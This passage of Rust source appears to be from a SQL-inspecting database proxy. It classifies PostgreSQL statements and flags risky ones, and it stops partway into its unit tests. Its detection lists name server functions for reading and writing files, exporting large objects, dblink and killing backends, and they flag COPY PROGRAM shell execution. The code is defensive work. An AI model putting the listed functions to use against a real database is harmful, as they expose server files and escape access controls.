//! Statement classification over the parse tree.
//!
//! The tree is walked generically (every field of every node, through the serialized
//! form of the protobuf tree), so no node kind is skipped by omission: a function call
//! inside a VALUES list, a DEFAULT, a sub-select in ORDER BY or a CTE is seen like any
//! other. Only the node kinds that matter to policy are interpreted.

use std::collections::BTreeSet;

use serde::Serialize;
use serde_json::{Map, Value};

use super::{
    columns::{self, ColumnReference},
    plpgsql,
};

/// What a statement is, for policy. A statement can have several kinds (a SELECT
/// whose CTE deletes has `select` and `delete`); the first is its primary kind.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Kind {
    Select,
    Insert,
    Update,
    Delete,
    Merge,
    /// COPY ... FROM (writes a table).
    CopyIn,
    /// COPY ... TO (reads a table or query).
    CopyOut,
    /// CREATE / ALTER / DROP / TRUNCATE / COMMENT and other schema changes.
    Ddl,
    /// GRANT / REVOKE / roles.
    Dcl,
    /// BEGIN / COMMIT / ROLLBACK / SAVEPOINT / PREPARE TRANSACTION.
    Transaction,
    /// SET / SHOW / RESET / DISCARD / DEALLOCATE / LISTEN / NOTIFY / UNLISTEN.
    Session,
    /// FETCH / MOVE / CLOSE of a cursor.
    Cursor,
    /// LOCK TABLE.
    Lock,
    /// VACUUM / ANALYZE / CLUSTER / REINDEX / CHECKPOINT / REFRESH MATERIALIZED VIEW.
    Maintenance,
    /// ALTER SYSTEM, LOAD, CREATE/DROP DATABASE, tablespaces, extensions.
    Admin,
    /// CALL procedure.
    Call,
    /// DO block; its PL/pgSQL body's statements add their kinds.
    Do,
    /// SQL-level EXECUTE of a prepared statement (its text is not seen here; see
    /// [`super::PreparedStatements::resolve`]).
    Execute,
    /// Protocol-level FunctionCall message (by function OID).
    FunctionCall,
}

impl Kind {
    pub fn as_str(self) -> &'static str {
        match self {
            Kind::Select => "select",
            Kind::Insert => "insert",
            Kind::Update => "update",
            Kind::Delete => "delete",
            Kind::Merge => "merge",
            Kind::CopyIn => "copy_in",
            Kind::CopyOut => "copy_out",
            Kind::Ddl => "ddl",
            Kind::Dcl => "dcl",
            Kind::Transaction => "transaction",
            Kind::Session => "session",
            Kind::Cursor => "cursor",
            Kind::Lock => "lock",
            Kind::Maintenance => "maintenance",
            Kind::Admin => "admin",
            Kind::Call => "call",
            Kind::Do => "do",
            Kind::Execute => "execute",
            Kind::FunctionCall => "function_call",
        }
    }

    pub fn parse(s: &str) -> Option<Kind> {
        Kind::ALL.iter().copied().find(|k| k.as_str() == s)
    }

    pub const ALL: [Kind; 19] = [
        Kind::Select,
        Kind::Insert,
        Kind::Update,
        Kind::Delete,
        Kind::Merge,
        Kind::CopyIn,
        Kind::CopyOut,
        Kind::Ddl,
        Kind::Dcl,
        Kind::Transaction,
        Kind::Session,
        Kind::Cursor,
        Kind::Lock,
        Kind::Maintenance,
        Kind::Admin,
        Kind::Call,
        Kind::Do,
        Kind::Execute,
        Kind::FunctionCall,
    ];
}

impl std::fmt::Display for Kind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A risky feature of a statement. An allow rule matches a statement with a flag only
/// when it names that flag in `permit_flags`: risky features are never allowed by
/// accident of a broad rule.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Flag {
    UpdateWithoutWhere,
    DeleteWithoutWhere,
    /// INSERT/UPDATE/DELETE/MERGE inside WITH.
    DataModifyingCte,
    /// EXPLAIN ANALYZE: the explained statement runs.
    ExplainAnalyze,
    /// Creates a table from a query (CREATE TABLE AS, SELECT INTO).
    CreateTableAs,
    /// COPY ... PROGRAM: runs a shell command on the database server.
    CopyProgram,
    /// COPY to or from a file on the database server.
    ServerFile,
    /// SET ROLE, SET SESSION AUTHORIZATION, set_config('role', ...).
    RoleChange,
    /// SET search_path or set_config('search_path', ...): changes what names mean.
    SearchPathChange,
    /// SET client_encoding / standard_conforming_strings (or set_config of them):
    /// changes how the server reads SQL text, which the proxy's parser could then read
    /// differently.
    LexerChange,
    /// SQL whose text is not visible to the parser: EXECUTE of a string in PL/pgSQL (DO
    /// blocks, function bodies), SQL-level EXECUTE of an unknown prepared statement,
    /// query_to_xml(...), and function bodies in languages other than plpgsql and sql.
    DynamicSql,
    /// A function with effects outside the statement: files, large objects, dblink,
    /// signalling backends, reloading configuration, replication slots.
    SideEffectFunction,
}

impl Flag {
    pub fn as_str(self) -> &'static str {
        match self {
            Flag::UpdateWithoutWhere => "update_without_where",
            Flag::DeleteWithoutWhere => "delete_without_where",
            Flag::DataModifyingCte => "data_modifying_cte",
            Flag::ExplainAnalyze => "explain_analyze",
            Flag::CreateTableAs => "create_table_as",
            Flag::CopyProgram => "copy_program",
            Flag::ServerFile => "server_file",
            Flag::RoleChange => "role_change",
            Flag::SearchPathChange => "search_path_change",
            Flag::LexerChange => "lexer_change",
            Flag::DynamicSql => "dynamic_sql",
            Flag::SideEffectFunction => "side_effect_function",
        }
    }

    pub fn parse(s: &str) -> Option<Flag> {
        Flag::ALL.iter().copied().find(|k| k.as_str() == s)
    }

    pub const ALL: [Flag; 12] = [
        Flag::UpdateWithoutWhere,
        Flag::DeleteWithoutWhere,
        Flag::DataModifyingCte,
        Flag::ExplainAnalyze,
        Flag::CreateTableAs,
        Flag::CopyProgram,
        Flag::ServerFile,
        Flag::RoleChange,
        Flag::SearchPathChange,
        Flag::LexerChange,
        Flag::DynamicSql,
        Flag::SideEffectFunction,
    ];
}

impl std::fmt::Display for Flag {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One statement, as policy sees it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Statement {
    /// This statement's own text (a slice of a multi-statement string).
    pub text: String,
    /// libpg_query fingerprint (constants removed): groups executions of "the same" query.
    pub fingerprint: String,
    /// Primary kind first, then kinds of nested data-modifying statements.
    pub kinds: Vec<Kind>,
    /// Every relation touched, `schema.name`. Unqualified names are resolved as the
    /// default search_path would: `pg_*` to `pg_catalog`, others to `public`.
    pub tables: BTreeSet<String>,
    /// The subset of `tables` written (INSERT/UPDATE/DELETE/MERGE/COPY FROM/TRUNCATE
    /// targets, and every relation of a DDL statement).
    pub writes: BTreeSet<String>,
    /// Functions called, as written (`lower`, `pg_catalog.pg_read_file`).
    pub functions: BTreeSet<String>,
    pub flags: BTreeSet<Flag>,
    /// Columns used to filter, join, sort, group or partition (for the masking
    /// side-channel guard), sorted and deduplicated.
    pub columns: Vec<ColumnReference>,
    /// PREPARE / EXECUTE / DEALLOCATE at the SQL level: the name involved, so a session
    /// can judge an EXECUTE by what was prepared ([`super::PreparedStatements`]).
    pub prepared: Option<Prepared>,
}

/// What a statement does to the session's named prepared statements.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case", tag = "op", content = "name")]
pub enum Prepared {
    /// `PREPARE name AS ...`: this statement is classified as the prepared query.
    Prepare(String),
    /// `EXECUTE name(...)`.
    Execute(String),
    /// `DEALLOCATE name`; `None` for DEALLOCATE ALL and DISCARD (which may drop them all).
    Deallocate(Option<String>),
}

impl Statement {
    /// The primary kind ([`classify`] always sets one; a hand-built statement
    /// without kinds reads as `execute`, which no broad rule allows by accident).
    pub fn kind(&self) -> Kind {
        self.kinds.first().copied().unwrap_or(Kind::Execute)
    }
}

/// Why a text cannot be judged. Such text is always refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Unclassifiable {
    #[error("statement is {len} bytes, over the {max}-byte limit for analysis")]
    TooLong { len: usize, max: usize },
    #[error("statement contains a NUL byte")]
    Nul,
    #[error("statement does not parse: {0}")]
    Syntax(String),
    #[error("statement of type {0} is not understood")]
    Unsupported(String),
    #[error("parser unavailable: {0}")]
    Internal(String),
}

/// Parses `text` and describes each of its statements. An empty text (or only
/// comments) yields no statements.
///
/// Call it on a thread with a large stack (see [`super::Classifier`]): the tree
/// conversion and walk recurse as deep as the statement nests.
pub fn classify(text: &str, max_len: usize) -> Result<Vec<Statement>, Unclassifiable> {
    classify_at(text, max_len, 0, 0)
}

/// An SQL statement or expression embedded in procedural code, parsed in the grammar
/// mode the server uses for it (`pg_query::ParserOptions`: 0 statement, 2 expression,
/// 3-5 assignment). `depth` counts enclosing procedural bodies.
pub(super) fn classify_fragment(
    text: &str,
    max_len: usize,
    mode: i32,
    depth: usize,
) -> Result<Vec<Statement>, Unclassifiable> {
    classify_at(text, max_len, mode, depth)
}

fn classify_at(
    text: &str,
    max_len: usize,
    mode: i32,
    depth: usize,
) -> Result<Vec<Statement>, Unclassifiable> {
    if text.len() > max_len {
        return Err(Unclassifiable::TooLong {
            len: text.len(),
            max: max_len,
        });
    }
    if text.as_bytes().contains(&0) {
        return Err(Unclassifiable::Nul);
    }
    let parsed = pg_query::parse(text, mode).map_err(|e| Unclassifiable::Syntax(error_text(e)))?;
    let mut out = Vec::with_capacity(parsed.protobuf.stmts.len());
    for raw in &parsed.protobuf.stmts {
        let stmt_text = slice(text, raw.stmt_location, raw.stmt_len);
        let Some(node) = raw.stmt.as_ref() else {
            return Err(Unclassifiable::Unsupported("empty node".into()));
        };
        let value = serde_json::to_value(node.as_ref())
            .map_err(|e| Unclassifiable::Internal(e.to_string()))?;
        // Fingerprints group top-level executions; embedded fragments need none.
        let fingerprint = if depth == 0 && mode == 0 {
            pg_query::fingerprint(stmt_text, 0, 0)
                .map(|f| f.hex)
                .map_err(|e| Unclassifiable::Syntax(error_text(e)))?
        } else {
            String::new()
        };
        let mut st = Statement {
            text: stmt_text.to_owned(),
            fingerprint,
            kinds: Vec::new(),
            tables: BTreeSet::new(),
            writes: BTreeSet::new(),
            functions: BTreeSet::new(),
            flags: BTreeSet::new(),
            columns: Vec::new(),
            prepared: None,
        };
        let (ty, inner) = node_of(&value)
            .ok_or_else(|| Unclassifiable::Unsupported("statement without a node".into()))?;
        let primary = top_kind(ty, inner, &mut st.flags)?;
        st.kinds.push(primary);
        st.prepared = prepared_of(ty, inner);
        let mut walk = Walk {
            st: &mut st,
            ddl: primary == Kind::Ddl
                || primary == Kind::Dcl
                || primary == Kind::Admin
                || primary == Kind::Maintenance,
        };
        walk.value(&value, &[]);
        st.columns = columns::references(&value);
        procedural(ty, inner, stmt_text, &mut st, max_len, depth)?;
        out.push(st);
    }
    Ok(out)
}

/// The SQL-level prepared statement a statement names, if any.
fn prepared_of(ty: &str, inner: &Map<String, Value>) -> Option<Prepared> {
    let name = || inner.get("name").and_then(Value::as_str).map(str::to_owned);
    match ty {
        "PrepareStmt" => name().map(Prepared::Prepare),
        "ExecuteStmt" => name().map(Prepared::Execute),
        "DeallocateStmt" => Some(Prepared::Deallocate(
            name().filter(|n| !n.is_empty() && !bool_field(inner, "isall")),
        )),
        "DiscardStmt" => Some(Prepared::Deallocate(None)),
        _ => None,
    }
}

/// DO blocks and function bodies: PL/pgSQL is analysed statement by statement, SQL bodies
/// are classified, other languages are not understood (DO: refused; CREATE FUNCTION:
/// flagged `dynamic_sql`, as what the body does is not visible).
fn procedural(
    ty: &str,
    inner: &Map<String, Value>,
    stmt_text: &str,
    st: &mut Statement,
    max_len: usize,
    depth: usize,
) -> Result<(), Unclassifiable> {
    let (options, is_do) = match ty {
        "DoStmt" => (inner.get("args"), true),
        "CreateFunctionStmt" => (inner.get("options"), false),
        _ => return Ok(()),
    };
    let mut language = None;
    let mut body = None;
    for (name, arg) in options
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(node_of)
        .filter(|(t, _)| *t == "DefElem")
        .map(|(_, d)| (d.get("defname").and_then(Value::as_str), d.get("arg")))
    {
        match name {
            Some("language") => language = arg.and_then(string_node),
            // DO: a String; CREATE FUNCTION: a List of one String (or two for C: file, symbol).
            Some("as") => {
                body = arg.and_then(string_node).or_else(|| {
                    arg.and_then(node_of)
                        .filter(|(t, _)| *t == "List")
                        .and_then(|(_, l)| l.get("items")?.as_array()?.last().and_then(string_node))
                });
            }
            _ => {}
        }
    }
    // The server compares language names exactly (identifiers are already lower-cased).
    match (language.as_deref(), body.as_deref()) {
        (Some("plpgsql") | None, Some(body)) => {
            plpgsql::merge_body(stmt_text, body, st, max_len, depth)
        }
        (Some("sql"), Some(body)) if !is_do => {
            if depth + 1 >= plpgsql::MAX_DEPTH {
                return Err(Unclassifiable::Unsupported(
                    "SQL function nested too deep".into(),
                ));
            }
            for inner in classify_fragment(body, max_len, 0, depth + 1)? {
                plpgsql::merge(st, inner, true);
            }
            Ok(())
        }
        // BEGIN ATOMIC / RETURN bodies are part of the parse tree and already walked.
        (Some("sql"), None) if !is_do => Ok(()),
        (lang, _) if is_do => Err(Unclassifiable::Unsupported(format!(
            "DO block in language {}",
            lang.unwrap_or("?")
        ))),
        _ => {
            st.flags.insert(Flag::DynamicSql);
            Ok(())
        }
    }
}

fn string_node(v: &Value) -> Option<String> {
    node_of(v)
        .filter(|(t, _)| *t == "String")
        .and_then(|(_, s)| s.get("sval")?.as_str().map(str::to_owned))
}

fn error_text(e: pg_query::Error) -> String {
    match e {
        pg_query::Error::Parse(m) => m,
        other => other.to_string(),
    }
}

/// The statement's own text; location/len are byte offsets, len 0 meaning "to the end".
fn slice(text: &str, location: i32, len: i32) -> &str {
    let start = usize::try_from(location).unwrap_or(0).min(text.len());
    let end = if len <= 0 {
        text.len()
    } else {
        start.saturating_add(len as usize).min(text.len())
    };
    text.get(start..end).unwrap_or(text).trim()
}

/// `{"node": {"SelectStmt": {...}}}` or `{"SelectStmt": {...}}` -> ("SelectStmt", {...}).
pub(super) fn node_of(v: &Value) -> Option<(&str, &Map<String, Value>)> {
    node_of_map(v.as_object()?)
}

pub(super) fn node_of_map(map: &Map<String, Value>) -> Option<(&str, &Map<String, Value>)> {
    let map = match map.get("node") {
        Some(Value::Object(inner)) if map.len() == 1 => inner,
        _ => map,
    };
    if map.len() != 1 {
        return None;
    }
    let (k, v) = map.iter().next()?;
    if !k.starts_with(|c: char| c.is_ascii_uppercase()) {
        return None;
    }
    Some((k.as_str(), v.as_object()?))
}

fn inner_node<'a>(
    map: &'a Map<String, Value>,
    field: &str,
) -> Option<(&'a str, &'a Map<String, Value>)> {
    map.get(field).and_then(node_of)
}

/// The primary kind of a top-level statement node.
fn top_kind(
    ty: &str,
    inner: &Map<String, Value>,
    flags: &mut BTreeSet<Flag>,
) -> Result<Kind, Unclassifiable> {
    Ok(match ty {
        "SelectStmt" => {
            if has(inner, "into_clause") {
                flags.insert(Flag::CreateTableAs);
                Kind::Ddl
            } else {
                Kind::Select
            }
        }
        "InsertStmt" => Kind::Insert,
        "UpdateStmt" => Kind::Update,
        "DeleteStmt" => Kind::Delete,
        "MergeStmt" => Kind::Merge,
        "CopyStmt" => {
            if bool_field(inner, "is_from") {
                Kind::CopyIn
            } else {
                Kind::CopyOut
            }
        }
        "ExplainStmt" => {
            let analyze = inner
                .get("options")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .filter_map(node_of)
                .any(|(t, d)| {
                    t == "DefElem" && d.get("defname").and_then(Value::as_str) == Some("analyze")
                });
            if analyze {
                flags.insert(Flag::ExplainAnalyze);
            }
            // EXPLAIN is judged as what it explains (conservative even without
            // ANALYZE: planning can evaluate functions).
            let (t, i) = inner_node(inner, "query")
                .ok_or_else(|| Unclassifiable::Unsupported("EXPLAIN without query".into()))?;
            top_kind(t, i, flags)?
        }
        "PrepareStmt" | "DeclareCursorStmt" => {
            let (t, i) = inner_node(inner, "query")
                .ok_or_else(|| Unclassifiable::Unsupported(format!("{ty} without query")))?;
            top_kind(t, i, flags)?
        }
        "CreateTableAsStmt" => {
            flags.insert(Flag::CreateTableAs);
            Kind::Ddl
        }
        "TransactionStmt" => Kind::Transaction,
        "VariableSetStmt" => {
            let name = inner.get("name").and_then(Value::as_str).unwrap_or("");
            match name {
                "role" | "session_authorization" => {
                    flags.insert(Flag::RoleChange);
                }
                "search_path" => {
                    flags.insert(Flag::SearchPathChange);
                }
                "client_encoding" | "standard_conforming_strings" => {
                    flags.insert(Flag::LexerChange);
                }
                // RESET ALL / SET SESSION CHARACTERISTICS etc. carry no name; RESET ALL
                // returns to the authenticated role and default path, which is safe.
                _ => {}
            }
            Kind::Session
        }
        "VariableShowStmt" | "DiscardStmt" | "DeallocateStmt" | "ListenStmt" | "UnlistenStmt"
        | "NotifyStmt" | "ConstraintsSetStmt" => Kind::Session,
        "FetchStmt" | "ClosePortalStmt" => Kind::Cursor,
        "LockStmt" => Kind::Lock,
        "VacuumStmt" | "ClusterStmt" | "ReindexStmt" | "CheckPointStmt" | "RefreshMatViewStmt" => {
            Kind::Maintenance
        }
        "AlterSystemStmt"
        | "LoadStmt"
        | "CreatedbStmt"
        | "DropdbStmt"
        | "AlterDatabaseStmt"
        | "AlterDatabaseSetStmt"
        | "AlterDatabaseRefreshCollStmt"
        | "CreateTableSpaceStmt"
        | "DropTableSpaceStmt"
        | "AlterTableSpaceOptionsStmt"
        | "CreateExtensionStmt"
        | "AlterExtensionStmt"
        | "AlterExtensionContentsStmt"
        | "CreateSubscriptionStmt"
        | "AlterSubscriptionStmt"
        | "DropSubscriptionStmt"
        | "CreatePublicationStmt"
        | "AlterPublicationStmt"
        | "CreateFdwStmt"
        | "AlterFdwStmt"
        | "CreateForeignServerStmt"
        | "AlterForeignServerStmt"
        | "CreateUserMappingStmt"
        | "AlterUserMappingStmt"
        | "DropUserMappingStmt"
        | "ImportForeignSchemaStmt"
        | "CreateEventTrigStmt"
        | "AlterEventTrigStmt"
        | "CreatePLangStmt" => Kind::Admin,
        "GrantStmt"
        | "GrantRoleStmt"
        | "CreateRoleStmt"
        | "AlterRoleStmt"
        | "AlterRoleSetStmt"
        | "DropRoleStmt"
        | "AlterDefaultPrivilegesStmt"
        | "ReassignOwnedStmt"
        | "DropOwnedStmt"
        | "CreatePolicyStmt"
        | "AlterPolicyStmt"
        | "AlterOwnerStmt" => Kind::Dcl,
        "CallStmt" => Kind::Call,
        // The body is analysed by `procedural`.
        "DoStmt" => Kind::Do,
        // A PL/pgSQL assignment (`x := expr`, only from procedural code) evaluates a SELECT.
        "PlassignStmt" => Kind::Select,
        "ExecuteStmt" => {
            flags.insert(Flag::DynamicSql);
            Kind::Execute
        }
        t if t.ends_with("Stmt")
            && (t.starts_with("Create")
                || t.starts_with("Alter")
                || t.starts_with("Drop")
                || t.starts_with("Define")
                || t.starts_with("Rename")
                || t.starts_with("Comment")
                || t.starts_with("SecLabel")
                || t.starts_with("Truncate")
                || t.starts_with("Index")
                || t.starts_with("View")
                || t.starts_with("Rule")
                || t.starts_with("Composite")
                || t.starts_with("Stats")) =>
        {
            Kind::Ddl
        }
        other => return Err(Unclassifiable::Unsupported(other.to_owned())),
    })
}

fn has(map: &Map<String, Value>, field: &str) -> bool {
    !matches!(map.get(field), None | Some(Value::Null))
}

fn bool_field(map: &Map<String, Value>, field: &str) -> bool {
    map.get(field).and_then(Value::as_bool).unwrap_or(false)
}

struct Walk<'a> {
    st: &'a mut Statement,
    /// Every relation of a DDL/DCL/admin statement counts as written.
    ddl: bool,
}

impl Walk<'_> {
    /// `scope`: CTE names visible here (references to them are not tables).
    fn value(&mut self, v: &Value, scope: &[String]) {
        match v {
            Value::Array(items) => {
                for i in items {
                    self.value(i, scope);
                }
            }
            Value::Object(map) => self.object(map, scope),
            _ => {}
        }
    }

    fn object(&mut self, map: &Map<String, Value>, scope: &[String]) {
        if let Some((ty, inner)) = node_of_map(map) {
            self.node(ty, inner, scope);
            return;
        }
        // Typed (not Node-wrapped) fields: recognise the structs that matter.
        if map.contains_key("relname") && map.contains_key("schemaname") {
            self.range_var(map, scope, false);
        }
        if map.contains_key("funcname") && map.contains_key("funcformat") {
            self.func_call(map);
        }
        self.fields(map, scope);
    }

    fn fields(&mut self, map: &Map<String, Value>, scope: &[String]) {
        let mut scope_owned;
        let mut scope = scope;
        if let Some(with) = map.get("with_clause").and_then(Value::as_object) {
            let recursive = bool_field(with, "recursive");
            let ctes: Vec<&Value> = with
                .get("ctes")
                .and_then(Value::as_array)
                .map(|a| a.iter().collect())
                .unwrap_or_default();
            let names: Vec<String> = ctes
                .iter()
                .filter_map(|c| node_of(c))
                .filter_map(|(_, c)| c.get("ctename").and_then(Value::as_str))
                .map(str::to_owned)
                .collect();
            // Each CTE body sees the CTEs before it (all of them when RECURSIVE).
            for (i, cte) in ctes.iter().enumerate() {
                let mut visible = scope.to_vec();
                let upto = if recursive { names.len() } else { i };
                visible.extend(names[..upto].iter().cloned());
                if let Some((_, c)) = node_of(cte)
                    && let Some((qt, _)) = inner_node(c, "ctequery")
                    && matches!(qt, "InsertStmt" | "UpdateStmt" | "DeleteStmt" | "MergeStmt")
                {
                    self.st.flags.insert(Flag::DataModifyingCte);
                }
                self.value(cte, &visible);
            }
            scope_owned = scope.to_vec();
            scope_owned.extend(names);
            scope = &scope_owned;
        }
        for (k, v) in map {
            if k == "with_clause" {
                continue;
            }
            self.value(v, scope);
        }
    }

    fn node(&mut self, ty: &str, inner: &Map<String, Value>, scope: &[String]) {
        match ty {
            "RangeVar" => self.range_var(inner, scope, false),
            "FuncCall" => self.func_call(inner),
            "InsertStmt" | "UpdateStmt" | "DeleteStmt" | "MergeStmt" => {
                let kind = match ty {
                    "InsertStmt" => Kind::Insert,
                    "UpdateStmt" => Kind::Update,
                    "DeleteStmt" => Kind::Delete,
                    _ => Kind::Merge,
                };
                if !self.st.kinds.contains(&kind) {
                    self.st.kinds.push(kind);
                }
                if ty == "UpdateStmt" && !has(inner, "where_clause") {
                    self.st.flags.insert(Flag::UpdateWithoutWhere);
                }
                if ty == "DeleteStmt" && !has(inner, "where_clause") {
                    self.st.flags.insert(Flag::DeleteWithoutWhere);
                }
                if let Some(rel) = inner.get("relation").and_then(Value::as_object) {
                    self.range_var(rel, scope, true);
                }
            }
            "SelectStmt" if has(inner, "into_clause") => {
                self.st.flags.insert(Flag::CreateTableAs);
                if let Some(rel) = inner
                    .get("into_clause")
                    .and_then(Value::as_object)
                    .and_then(|i| i.get("rel"))
                    .and_then(Value::as_object)
                {
                    self.range_var(rel, scope, true);
                }
            }
            "CreateTableAsStmt" => {
                if let Some(rel) = inner
                    .get("into")
                    .and_then(Value::as_object)
                    .and_then(|i| i.get("rel"))
                    .and_then(Value::as_object)
                {
                    self.range_var(rel, scope, true);
                }
            }
            "CopyStmt" => {
                if bool_field(inner, "is_program") {
                    self.st.flags.insert(Flag::CopyProgram);
                } else if inner
                    .get("filename")
                    .and_then(Value::as_str)
                    .is_some_and(|f| !f.is_empty())
                {
                    self.st.flags.insert(Flag::ServerFile);
                }
                if let Some(rel) = inner.get("relation").and_then(Value::as_object) {
                    self.range_var(rel, scope, bool_field(inner, "is_from"));
                }
            }
            "TruncateStmt" => {
                for r in inner
                    .get("relations")
                    .and_then(Value::as_array)
                    .into_iter()
                    .flatten()
                {
                    if let Some(("RangeVar", rel)) = node_of(r) {
                        self.range_var(rel, scope, true);
                    }
                }
            }
            "ExecuteStmt" => {
                self.st.flags.insert(Flag::DynamicSql);
            }
            "VariableSetStmt" => match inner.get("name").and_then(Value::as_str) {
                Some("role" | "session_authorization") => {
                    self.st.flags.insert(Flag::RoleChange);
                }
                Some("search_path") => {
                    self.st.flags.insert(Flag::SearchPathChange);
                }
                Some("client_encoding" | "standard_conforming_strings") => {
                    self.st.flags.insert(Flag::LexerChange);
                }
                _ => {}
            },
            _ => {}
        }
        self.fields(inner, scope);
    }

    fn range_var(&mut self, rv: &Map<String, Value>, scope: &[String], written: bool) {
        let s = |k: &str| rv.get(k).and_then(Value::as_str).unwrap_or("");
        let (catalog, schema, rel) = (s("catalogname"), s("schemaname"), s("relname"));
        if rel.is_empty() {
            return;
        }
        if schema.is_empty() && catalog.is_empty() && scope.iter().any(|c| c == rel) {
            return;
        }
        let schema = if !schema.is_empty() {
            schema
        } else if rel.starts_with("pg_") {
            "pg_catalog"
        } else {
            "public"
        };
        let name = if catalog.is_empty() {
            format!("{schema}.{rel}")
        } else {
            format!("{catalog}.{schema}.{rel}")
        };
        if written || self.ddl {
            self.st.writes.insert(name.clone());
        }
        self.st.tables.insert(name);
    }

    fn func_call(&mut self, fc: &Map<String, Value>) {
        let parts: Vec<&str> = fc
            .get("funcname")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(|n| node_of(n))
            .filter_map(|(t, s)| (t == "String").then(|| s.get("sval")?.as_str()).flatten())
            .collect();
        if parts.is_empty() {
            return;
        }
        let name = parts.join(".");
        let base = parts[parts.len() - 1];
        if is_side_effect_function(base) {
            self.st.flags.insert(Flag::SideEffectFunction);
        }
        if is_dynamic_sql_function(base) {
            self.st.flags.insert(Flag::DynamicSql);
        }
        if base == "set_config" {
            // set_config('role' | 'session_authorization' | 'search_path', ...): judged by
            // its first argument when it is a literal; any other first argument could be
            // one of them.
            let first = fc
                .get("args")
                .and_then(Value::as_array)
                .and_then(|a| a.first())
                .and_then(node_of)
                .and_then(|(t, c)| (t == "AConst").then_some(c))
                .and_then(|c| c.get("sval"))
                .and_then(Value::as_object)
                .and_then(|s| s.get("sval"))
                .and_then(Value::as_str)
                .map(str::to_ascii_lowercase);
            match first.as_deref() {
                Some("role" | "session_authorization") => {
                    self.st.flags.insert(Flag::RoleChange);
                }
                Some("search_path") => {
                    self.st.flags.insert(Flag::SearchPathChange);
                }
                Some("client_encoding" | "standard_conforming_strings") => {
                    self.st.flags.insert(Flag::LexerChange);
                }
                Some(_) => {}
                None => {
                    self.st.flags.insert(Flag::RoleChange);
                    self.st.flags.insert(Flag::SearchPathChange);
                    self.st.flags.insert(Flag::LexerChange);
                }
            }
        }
        self.st.functions.insert(name);
    }
}

/// Functions whose effects reach beyond the rows of the statement.
fn is_side_effect_function(name: &str) -> bool {
    const EXACT: &[&str] = &[
        "pg_read_file",
        "pg_read_binary_file",
        "pg_stat_file",
        "pg_ls_dir",
        "pg_ls_logdir",
        "pg_ls_waldir",
        "pg_ls_tmpdir",
        "pg_ls_archive_statusdir",
        "pg_ls_logicalsnapdir",
        "pg_ls_logicalmapdir",
        "pg_ls_replslotdir",
        "pg_file_write",
        "pg_file_rename",
        "pg_file_unlink",
        "pg_file_sync",
        "pg_logdir_ls",
        "lo_import",
        "lo_export",
        "lo_unlink",
        "lo_put",
        "lo_from_bytea",
        "lo_create",
        "lo_creat",
        "lo_truncate",
        "pg_terminate_backend",
        "pg_cancel_backend",
        "pg_reload_conf",
        "pg_rotate_logfile",
        "pg_promote",
        "pg_switch_wal",
        "pg_create_restore_point",
        "pg_backup_start",
        "pg_backup_stop",
        "pg_log_backend_memory_contexts",
        "pg_logical_emit_message",
        "pg_import_system_collations",
        "pg_wal_replay_pause",
        "pg_wal_replay_resume",
    ];
    const PREFIX: &[&str] = &[
        "dblink",
        "pg_replication_",
        "pg_create_physical_replication_slot",
        "pg_create_logical_replication_slot",
        "pg_drop_replication_slot",
        "pg_copy_",
        "pg_stat_reset",
        "pg_logical_slot_",
    ];
    EXACT.contains(&name) || PREFIX.iter().any(|p| name.starts_with(p))
}

/// Functions that run SQL given to them as a string or name a relation by string.
pub(super) fn is_dynamic_sql_function(name: &str) -> bool {
    matches!(
        name,
        "query_to_xml"
            | "query_to_xmlschema"
            | "query_to_xml_and_xmlschema"
            | "cursor_to_xml"
            | "cursor_to_xmlschema"
            | "table_to_xml"
            | "table_to_xmlschema"
            | "table_to_xml_and_xmlschema"
            | "schema_to_xml"
            | "schema_to_xmlschema"
            | "schema_to_xml_and_xmlschema"
            | "database_to_xml"
            | "database_to_xmlschema"
            | "database_to_xml_and_xmlschema"
            | "ts_stat"
            | "ts_rewrite"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(sql: &str) -> Statement {
        let mut v = classify(sql, 1 << 20).unwrap();
        assert_eq!(v.len(), 1, "{sql}");
        v.remove(0)
    }

    #[test]
    fn select_reads_resolved_tables() {
        let s = one(
            "SELECT a FROM orders o JOIN sales.items i ON true WHERE x IN (SELECT 1 FROM pg_class)",
        );
        assert_eq!(s.kinds, vec![Kind::Select]);
        assert_eq!(
            s.tables.iter().map(String::as_str).collect::<Vec<_>>(),
            ["pg_catalog.pg_class", "public.orders", "sales.items"]
        );
        assert!(s.writes.is_empty());
        assert!(s.flags.is_empty());
    }

    #[test]
    fn update_and_delete_without_where() {
        assert!(
            one("UPDATE t SET a = 1")
                .flags
                .contains(&Flag::UpdateWithoutWhere)
        );
        assert!(
            !one("UPDATE t SET a = 1 WHERE id = 2")
                .flags
                .contains(&Flag::UpdateWithoutWhere)
        );
        let d = one("DELETE FROM s.t");
        assert!(d.flags.contains(&Flag::DeleteWithoutWhere));
        assert_eq!(d.writes.iter().next().unwrap(), "s.t");
    }

    #[test]
    fn data_modifying_cte_adds_its_kind() {
        let s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
        assert_eq!(s.kinds, vec![Kind::Select, Kind::Delete]);
        assert!(s.flags.contains(&Flag::DataModifyingCte));
        assert!(s.flags.contains(&Flag::DeleteWithoutWhere));
        assert!(s.tables.contains("public.t"));
        assert!(!s.tables.contains("public.d"), "CTE name is not a table");
    }

    #[test]
    fn cte_name_does_not_hide_a_table_outside_its_scope() {
        let s = one("SELECT * FROM secret, (WITH secret AS (SELECT 1) SELECT * FROM secret) x");
        assert!(s.tables.contains("public.secret"));
        let s = one("WITH a AS (SELECT * FROM a) SELECT * FROM a");
        assert!(
            s.tables.contains("public.a"),
            "non-recursive CTE body sees the table"
        );
    }

    #[test]
    fn functions_anywhere_are_seen() {
